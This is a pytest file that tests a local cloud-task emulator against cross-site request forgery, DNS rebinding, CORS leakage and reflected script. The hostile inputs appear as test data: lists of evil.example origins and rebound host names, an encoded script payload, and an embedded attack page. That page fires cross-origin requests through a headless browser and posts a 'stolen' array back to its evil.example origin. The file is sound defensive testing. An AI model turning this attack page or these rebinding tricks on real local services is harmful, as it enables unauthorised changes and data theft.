"""A page in somebody's browser against a server that asks nobody who he is: by the headers that it would send, and in a
real browser where one is found."""

from __future__ import annotations

import json
import queue
import shutil
import socket
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.attacks.realm import raw_http, request
from tests.running import Answer, Arrival, KumoProcess, RecordingWorker, missing, running

PLACE = "projects/kumo-local/locations/us-central1"
QUEUES = f"/v2/{PLACE}/queues"
CHANGES = (
    ("POST", QUEUES, b'{"name": "%s/queues/drawn"}' % PLACE.encode()),
    ("POST", f"/v2/{PLACE}/queues/mine/tasks", b'{"task": {"httpRequest": {"url": "http://localhost:1/"}}}'),
    ("POST", f"/v2/{PLACE}/queues/mine/tasks:buffer", b"x"),
    ("POST", f"/v2/{PLACE}/queues/mine:pause", b"{}"),
    ("POST", "/kumo/v1/clock:advance", b'{"seconds": 60}'),
    ("POST", "/v1/projects/kumo-local/serviceAccounts", b'{"accountId": "intruder"}'),
    (
        "POST",
        "/v1/projects/-/serviceAccounts/a@kumo-local.iam.gserviceaccount.com:generateAccessToken",
        b'{"scope": ["x"]}',
    ),
    ("POST", "/token", b"grant_type=x"),
    ("DELETE", f"/v2/{PLACE}/queues/mine", b""),
)
FOREIGN_ORIGINS = (
    "http://evil.example",
    "https://evil.example",
    "null",
    "http://localhost.evil.example",
    "http://127.0.0.1.evil.example",
    "http://evil.example:8123",
    "http://localhost@evil.example",
    "http://evil.example#localhost",
    "http://evillocalhost",
    "http://notgoogleapis.com",
    "file://",
    "chrome-extension://localhost",
    "http://[::1].evil.example",
    "http://2130706433",
    "http://0.0.0.0",
    "",
    "http://localhost, http://evil.example",
)
REBOUND = (
    "evil.example",
    "evil.example:{port}",
    "127.0.0.1.evil.example:{port}",
    "localhost.evil.example",
    "evillocalhost:{port}",
    "0.0.0.0:{port}",
    "2130706433:{port}",
    "127.1:{port}",
    "localhost@evil.example",
    "localhost:{port}.evil.example",
    "192.168.0.1:{port}",
    "googleapis.com.evil.example",
    "localhost evil.example",
    "lоcalhost",
)
KINDS = ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json")


@pytest.fixture(scope="module")
def kumo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[KumoProcess]:
    with running(tmp_path_factory.mktemp("open"), "--clock", "manual", "--queue", "mine") as process:
        yield process


@pytest.fixture
def untouched(kumo: KumoProcess) -> Iterator[None]:
    """Nothing of it came true."""
    before = state_of(kumo)
    yield
    assert state_of(kumo) == before


def state_of(kumo: KumoProcess) -> list[object]:
    targets = (QUEUES, f"/v2/{PLACE}/queues/mine/tasks", "/kumo/v1/clock", "/v1/projects/kumo-local/serviceAccounts")
    return [kumo.http("GET", target) for target in targets]


@pytest.mark.usefixtures("untouched")
@pytest.mark.parametrize("origin", FOREIGN_ORIGINS)
def test_a_page_of_another_origin_changes_nothing(kumo: KumoProcess, origin: str) -> None:
    for verb, target, body in CHANGES:
        for kind in KINDS:
            head = (f"Origin: {origin}", f"Content-Type: {kind}", "Sec-Fetch-Site: cross-site")
            asked = request(target, *head, verb=verb, host=kumo.address, body=body, close=True)
            ((status, said),) = raw_http(kumo.port, asked)
            assert (status, json.loads(said)["error"]["status"]) == (403, "PERMISSION_DENIED")


@pytest.mark.usefixtures("untouched")
@pytest.mark.parametrize("host", REBOUND)
def test_a_rebound_name_reads_and_changes_nothing(kumo: KumoProcess, host: str) -> None:
    name = host.format(port=kumo.port).encode().decode("latin-1")
    for verb, target, body in (*CHANGES, ("GET", QUEUES, b""), ("GET", "/metrics", b""), ("GET", "/healthz", b"")):
        for fields in ((), (f"Origin: http://{name}", "Sec-Fetch-Site: same-origin"), ("Origin: http://localhost",)):
            ((status, said),) = raw_http(
                kumo.port, request(target, *fields, verb=verb, host=name, body=body, close=True)
            )
            assert status in (400, 403)
            assert PLACE.encode() not in said


@pytest.mark.usefixtures("untouched")
def test_the_host_of_an_absolute_target_counts(kumo: KumoProcess) -> None:
    for target, host, status in (
        (f"http://evil.example{QUEUES}", "localhost", 403),
        (f"http://localhost{QUEUES}", "evil.example", 200),
    ):
        assert [each for each, _ in raw_http(kumo.port, request(target, host=host, close=True))] == [status]


def test_no_origin_is_invited(kumo: KumoProcess) -> None:
    for origin in ("http://evil.example", "null", "http://localhost:3000"):
        for verb in ("OPTIONS", "GET", "POST"):
            head = (f"Origin: {origin}", "Access-Control-Request-Method: POST", "Access-Control-Request-Headers: x")
            asked = request(QUEUES, *head, verb=verb, host=kumo.address, close=True)
            said = whole(kumo, asked)
            assert b"access-control-" not in said.lower()
            assert b"evil.example" not in said


def test_what_is_answered_is_never_a_page(kumo: KumoProcess) -> None:
    script = "%3Cscript%3Ealert(1)%3C/script%3E"
    for target in (QUEUES, f"/v2/{script}", f"/v2/{PLACE}/queues/{script}", f"{QUEUES}?{script}={script}", "/metrics"):
        said = whole(kumo, request(target, host=kumo.address, close=True)).lower()
        assert b"<script" not in said
        assert b"content-type: text/html" not in said


def test_a_page_of_this_machine_is_at_home(kumo: KumoProcess) -> None:
    for origin in ("http://localhost:3000", "http://127.0.0.1:3000", "http://[::1]:3000"):
        for host in (kumo.address, f"localhost:{kumo.port}", "[::1]", "x.localhost", "cloudtasks.googleapis.com"):
            asked = request(QUEUES, f"Origin: {origin}", host=host, close=True)
            assert [status for status, _ in raw_http(kumo.port, asked)] == [200]


def whole(kumo: KumoProcess, asked: bytes) -> bytes:
    """All that is answered, until the server closes."""
    with socket.create_connection(("127.0.0.1", kumo.port), 20) as connection:
        connection.sendall(asked)
        return b"".join(iter(lambda: connection.recv(65_536), b""))


# -- with a browser --------------------------------------------------------------------------------------------------

BROWSERS = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
PAGE = """<!doctype html><title>page</title><script>
const stolen = [];
const at = (host, path) => `http://${host}:%(port)d${path}`;
const body = JSON.stringify({name: "%(place)s/queues/" + location.hostname.replaceAll(".", "-")});
const plain = {method: "POST", mode: "no-cors", body};
const sent = ["127.0.0.1", "localhost", location.hostname].flatMap(host => [
  fetch(at(host, "%(queues)s"), plain),
  fetch(at(host, "%(queues)s"), {method: "POST", body, headers: {"Content-Type": "application/json"}}),
  fetch(at(host, "%(queues)s/mine"), {method: "DELETE"}),
  fetch(at(host, "/kumo/v1/clock:advance"), {...plain, body: '{"seconds": 60}'}),
  fetch(at(host, "%(queues)s")).then(answer => answer.text()).then(text => stolen.push(text)),
]);
Promise.allSettled(sent).then(() => fetch("/done", {method: "POST", body: JSON.stringify(stolen)}));
</script>"""


@pytest.fixture
def browser() -> str:
    found = next(filter(None, map(shutil.which, BROWSERS)), None)
    if found is None:
        pytest.skip(missing("chromium"))
    return found


def read_by_page(browser: str, profile: Path, worker: RecordingWorker, kumo: KumoProcess, host: str) -> list[str]:
    """Load a page from a host that leads to this machine; what its script could read of the server."""
    page = PAGE % {"port": kumo.port, "place": PLACE, "queues": QUEUES}
    told: queue.Queue[bytes] = queue.Queue()

    def answer(arrival: Arrival) -> Answer:
        if arrival.path == "/done":
            told.put(arrival.body)
        return Answer(headers={"Content-Type": "text/html"}, body=page.encode())

    worker.answer = answer
    command = [
        browser, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", f"--user-data-dir={profile}",
        "--host-resolver-rules=MAP evil.example 127.0.0.1", "--remote-debugging-port=0",
        f"http://{host}:{worker.url.rpartition(':')[2]}/",
    ]  # fmt: skip
    with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as child:
        try:
            return list(json.loads(told.get(timeout=60)))
        finally:
            child.kill()


@pytest.mark.usefixtures("untouched")
def test_a_real_page_of_another_origin_reads_and_changes_nothing(
    browser: str, tmp_path: Path, worker: RecordingWorker, kumo: KumoProcess
) -> None:
    assert read_by_page(browser, tmp_path, worker, kumo, "evil.example") == []


def test_a_real_page_of_this_machine_is_let_in_but_reads_nothing(
    browser: str, tmp_path: Path, worker: RecordingWorker, kumo: KumoProcess
) -> None:
    """Which shows that the other page was refused, and not just never heard."""
    assert read_by_page(browser, tmp_path, worker, kumo, "localhost") == []
    assert kumo.http("GET", f"{QUEUES}/localhost")[0] == 200
